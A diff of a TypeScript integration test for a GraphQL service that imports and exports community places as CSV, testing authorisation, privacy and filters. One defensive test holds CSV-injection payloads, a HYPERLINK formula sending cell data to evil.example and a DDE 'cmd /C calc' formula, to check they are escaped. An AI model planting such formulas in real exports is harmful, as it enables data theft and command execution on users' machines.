@@ -1,17 +1,20 @@
 // Integration: CSV import and export in the national standard, and places by territory.
+import { randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { callSubgraph, deleteTestStreams, dropDatabase, testServiceConfig } from '@pass-numerique/testing';
 import type { Identity } from '@pass-numerique/service-kit';
 import { startPartnersService } from '../server';
-import { freshSiret, organisationInput, placeDescriptionInput } from '../test-support/factories';
+import { freshSiret, placeDescriptionInput } from '../test-support/factories';
 import { STANDARD_FIELD_NAMES, violationsOfStandard } from '../test-support/standard-schema';
+import { ANONYMOUS, apply, managerOf, OPERATOR, placeStaffOf, qualify, registerOrganisation, registerPlace } from '../test-support/partners-test-kit';
 
 const EXAMPLE = readFileSync(path.join(__dirname, '../../reference/standard-mediation-num-v1.0.2.exemple-valide.csv'), 'utf8');
 const IMPORT = `mutation($csv: String!, $dry: Boolean) { importPlaces(csv: $csv, dryRun: $dry) { dryRun totalRows created updated unchanged rejected
   rows { line externalId status place { id name openingHours services address { inseeCode } } issues { column field code } } } }`;
-const anonymous: Identity = { subject: 'anonymous', role: 'public', scopes: [] };
+const anonymous = ANONYMOUS;
 
 /** A row of the standard with full defaults, in Abbeville (80001), overrides last. */
 function row(pivot: string, overrides: Record<string, string> = {}): Record<string, string> {
@@ -38,14 +41,14 @@ describe('partners subgraph: places in the national standard', () => {
   const config = { ...testServiceConfig('partners'), loadDemoData: false };
   let service: Awaited<ReturnType<typeof startPartnersService>>;
   let siret: string;
+  let organisationId: string;
+  let staff: Identity;
 
   beforeAll(async () => {
     service = await startPartnersService(config);
     siret = freshSiret();
-    const registered = await callSubgraph(service.url, `mutation($input: RegisterOrganisationInput!) { registerOrganisation(input: $input) { id } }`, {
-      input: organisationInput({ siret, legalKind: 'THIRD_PLACE' }),
-    });
-    expect(registered.errors).toBeUndefined();
+    organisationId = await registerOrganisation(service.url, { siret, legalKind: 'THIRD_PLACE' });
+    staff = placeStaffOf(organisationId);
   });
   afterAll(async () => {
     await service?.stop();
@@ -53,19 +56,17 @@ describe('partners subgraph: places in the national standard', () => {
     await deleteTestStreams(config.eventPrefix);
   });
 
-  const importCsv = async (csv: string, dry = false, identity?: Identity) => {
+  const importCsv = async (csv: string, dry = false, identity: Identity = staff) => {
     const { data, errors } = await callSubgraph(service.url, IMPORT, { csv, dry }, identity);
     if (errors) throw Object.assign(new Error(errors[0].message), { extensions: errors[0].extensions });
     return data.importPlaces;
   };
 
   it("imports the standard's own valid example once its pivot is a registered organisation", async () => {
-    const before = await importCsv(EXAMPLE);
+    const before = await importCsv(EXAMPLE, false, OPERATOR);
     expect(before.rows[0]).toMatchObject({ status: 'REJECTED', issues: [{ column: 'pivot', code: 'UNKNOWN_ORGANISATION' }] });
-    await callSubgraph(service.url, `mutation($input: RegisterOrganisationInput!) { registerOrganisation(input: $input) { id } }`, {
-      input: organisationInput({ siret: '43493312300029', name: 'Anonymal', legalKind: 'ASSOCIATION', postalCode: '51100', inseeCode: '51454' }),
-    });
-    const report = await importCsv(EXAMPLE);
+    await registerOrganisation(service.url, { siret: '43493312300029', name: 'Anonymal', legalKind: 'ASSOCIATION', postalCode: '51100', inseeCode: '51454' });
+    const report = await importCsv(EXAMPLE, false, OPERATOR);
     expect(report).toMatchObject({ created: 1, rejected: 0 });
     expect(report.rows[0].place).toMatchObject({ name: 'Anonymal', openingHours: 'Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00', address: { inseeCode: '51454' } });
   });
@@ -113,7 +114,32 @@ describe('partners subgraph: places in the national standard', () => {
   it('refuses a file that is not the standard as a whole', async () => {
     await expect(importCsv('nom,adresse\nx,y\n')).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'csv', missingColumns: ['id', 'pivot', 'code_postal', 'services'] } });
     await expect(importCsv('id,pivot\n"unclosed,x\n')).rejects.toMatchObject({ extensions: { code: 'BAD_USER_INPUT', field: 'csv' } });
-    await expect(importCsv(csvOf([row(siret)]), false, anonymous)).rejects.toMatchObject({ extensions: { code: 'FORBIDDEN' } });
+    for (const refused of [anonymous, managerOf(randomUUID())]) {
+      await expect(importCsv(csvOf([row(siret)]), false, refused)).rejects.toMatchObject({ extensions: { code: 'FORBIDDEN' } });
+    }
+  });
+
+  it("rejects another organisation's rows exactly as rows of an organisation that is not registered, and writes none of them", async () => {
+    const neighbourSiret = freshSiret();
+    await registerOrganisation(service.url, { siret: neighbourSiret });
+    const theirs = row(neighbourSiret);
+    const nobodys = row(freshSiret());
+    const mine = row(siret);
+    const report = await importCsv(csvOf([theirs, nobodys, mine]));
+    expect(report).toMatchObject({ created: 1, rejected: 2 });
+    expect(report.rows[0].issues).toEqual([{ column: 'pivot', field: 'organisationId', code: 'UNKNOWN_ORGANISATION' }]);
+    expect(report.rows[0].issues).toEqual(report.rows[1].issues);
+    const [{ count }] = await service.dataSource.query(`SELECT count(*)::int AS count FROM place WHERE external_id = ANY($1)`, [[theirs.id, nobodys.id]]);
+    expect(count).toBe(0);
+
+    const neighbourId = (await callSubgraph(service.url, `query($s: String!) { organisationBySiret(siret: $s) { id } }`, { s: neighbourSiret }, anonymous)).data.organisationBySiret.id;
+    const named = await callSubgraph(service.url, `mutation($csv: String!, $o: ID) { importPlaces(csv: $csv, organisationId: $o) { created } }`, { csv: csvOf([row(neighbourSiret)]), o: neighbourId }, staff);
+    const missing = randomUUID();
+    const unknown = await callSubgraph(service.url, `mutation($csv: String!, $o: ID) { importPlaces(csv: $csv, organisationId: $o) { created } }`, { csv: csvOf([row(neighbourSiret)]), o: missing }, staff);
+    expect(named.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', field: 'organisationId' });
+    expect(JSON.stringify(named.errors).replaceAll(neighbourId, '<id>')).toBe(JSON.stringify(unknown.errors).replaceAll(missing, '<id>'));
+    // The platform operator imports for any organisation.
+    expect(await importCsv(csvOf([row(neighbourSiret)]), false, OPERATOR)).toMatchObject({ created: 1 });
   });
 
   it('exports places, all or those of a territory, as CSV that validates against the standard, and re-imports it as no change', async () => {
@@ -129,20 +155,42 @@ describe('partners subgraph: places in the national standard', () => {
     expect(somme).not.toContain(inPasDeCalais.nom);
     expect(somme).not.toMatch(/FR76|Camille/);
 
-    const reimported = await importCsv(all);
+    const reimported = await importCsv(all, false, OPERATOR);
     expect(reimported.rejected).toBe(0);
     expect(reimported.created).toBe(0);
   });
 
   it('exports private data of no one, even places with an IBAN and contact people', async () => {
-    const { data } = await callSubgraph(service.url, `mutation($input: RegisterPlaceInput!) { registerPlace(input: $input) { id } }`, {
-      input: { organisationId: (await callSubgraph(service.url, `query($s: String!) { organisationBySiret(siret: $s) { id } }`, { s: siret })).data.organisationBySiret.id,
-        description: placeDescriptionInput({ address: { street: '1 rue Privée', postalCode: '80100', inseeCode: '80001' } }), contactPeople: [{ name: 'Dominique Secret' }] },
-    });
-    await callSubgraph(service.url, `mutation($id: ID!) { applyForQualification(input: { placeId: $id, iban: "FR76 3000 6000 0112 3456 7890 189" }) { id } }`, { id: data.registerPlace.id });
+    const placeId = await registerPlace(service.url, organisationId, { address: { street: '1 rue Privée', postalCode: '80100', inseeCode: '80001' } }, [{ name: 'Dominique Secret' }]);
+    await apply(service.url, placeId, organisationId, randomUUID());
     const csv = (await callSubgraph(service.url, `{ placesCsv(territory: { level: COMMUNE, code: "80001" }) }`, {}, anonymous)).data.placesCsv;
-    expect(csv).toContain(data.registerPlace.id);
+    expect(csv).toContain(placeId);
     expect(csv).not.toMatch(/FR763000|Dominique/);
+  });
+
+  it('writes every text a producer wrote as text, never as a formula a spreadsheet would run (CSV injection), and reads it back unchanged', async () => {
+    const formulas = {
+      name: `=HYPERLINK("https://evil.example/?"&A1,"Cliquez ici") ${Math.random()}`,
+      summary: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      description: '+33 est un indicatif, -12 un nombre',
+      address: { street: '-1 rue du Moins', postalCode: '80000', inseeCode: '80021' },
+    };
+    const placeId = await registerPlace(service.url, organisationId, formulas);
+    const csv = (await callSubgraph(service.url, `query($o: ID) { placesCsv(organisationId: $o) }`, { o: organisationId }, anonymous)).data.placesCsv;
+    expect(violationsOfStandard(csv)).toEqual([]);
+    const rows: Array<Record<string, string>> = parse(csv, { columns: true });
+    const exported = rows.find((r) => r.id === placeId)!;
+    expect(exported.nom).toBe(`'${formulas.name}`);
+    expect(exported.presentation_resume).toBe(`'${formulas.summary}`);
+    expect(exported.presentation_detail).toBe(`'${formulas.description}`);
+    expect(exported.adresse).toBe(`'${formulas.address.street}`);
+    // Numbers stay numbers, and no cell of the file starts a formula.
+    expect(exported.telephone).toBe('+33322971010');
+    expect(exported.latitude).toBe('49.8925');
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=@]|^[+-](?![\d.,]+$)/);
+
+    const reimported = await importCsv(csv);
+    expect(reimported.rows.find((r: { place: { id: string } | null }) => r.place?.id === placeId)).toMatchObject({ status: 'UNCHANGED', place: { name: formulas.name } });
   });
 
   it('lists places of a territory with filters and pages, and gives the Territory entity its places and count', async () => {
@@ -180,5 +228,39 @@ describe('partners subgraph: places in the national standard', () => {
     expect(ofRegion.placeCount).toBeGreaterThan(ofEpci.placeCount);
     expect(ofEpci.qualified).toBe(0);
     expect(ofZone).toEqual({ code: 'pact-sat', placeCount: null, qualified: null, places: null });
+  });
+
+  it('filters places qualified for one programme (programmeId) or for at least one (qualifiedOnly), in lists, the CSV file and a territory', async () => {
+    const [a, b] = [randomUUID(), randomUUID()];
+    const inPeronne = { address: { street: '2 rue Saint-Fursy', postalCode: '80200', inseeCode: '80620' } };
+    const forA = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Qualifiée A ${Math.random()}` });
+    const forB = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Qualifiée B ${Math.random()}` });
+    const appliedOnly = await registerPlace(service.url, organisationId, { ...inPeronne, name: `Candidate A ${Math.random()}` });
+    await qualify(service.url, forA, organisationId, a);
+    await qualify(service.url, forB, organisationId, b);
+    await apply(service.url, appliedOnly, organisationId, a);
+
+    const LIST = `query($p: ID, $q: Boolean) { places(territory: { level: COMMUNE, code: "80620" }, programmeId: $p, qualifiedOnly: $q) { totalCount edges { node { id acceptsPasses ofA: acceptsPasses(programmeId: "${'${a}'}") } } } }`.replace('${a}', a);
+    const ids = async (variables: Record<string, unknown>) => (await callSubgraph(service.url, LIST, variables, anonymous)).data.places.edges.map((e: { node: { id: string } }) => e.node.id).sort();
+    expect(await ids({})).toEqual([forA, forB, appliedOnly].sort());
+    expect(await ids({ q: true })).toEqual([forA, forB].sort());
+    expect(await ids({ p: a })).toEqual([forA]);
+    expect(await ids({ p: b, q: false })).toEqual([forB]);
+    expect(await ids({ p: randomUUID() })).toEqual([]);
+    const nodes = (await callSubgraph(service.url, LIST, {}, anonymous)).data.places.edges.map((e: { node: unknown }) => e.node);
+    expect(nodes).toEqual(expect.arrayContaining([{ id: forA, acceptsPasses: true, ofA: true }, { id: forB, acceptsPasses: true, ofA: false }, { id: appliedOnly, acceptsPasses: false, ofA: false }]));
+
+    const csvOfProgramme = (await callSubgraph(service.url, `query($p: ID) { placesCsv(territory: { level: COMMUNE, code: "80620" }, programmeId: $p) }`, { p: a }, anonymous)).data.placesCsv;
+    expect(csvOfProgramme).toContain(forA);
+    expect(csvOfProgramme).not.toContain(forB);
+    expect(csvOfProgramme).not.toContain(appliedOnly);
+
+    const { data } = await callSubgraph(
+      service.url,
+      `query($reps: [_Any!]!, $p: ID) { _entities(representations: $reps) { ... on Territory { places(programmeId: $p) { totalCount } qualified: placeCount(qualifiedOnly: true) } } }`,
+      { reps: [{ __typename: 'Territory', level: 'COMMUNE', code: '80620' }], p: b },
+      anonymous,
+    );
+    expect(data._entities[0]).toEqual({ places: { totalCount: 1 }, qualified: 2 });
   });
 });
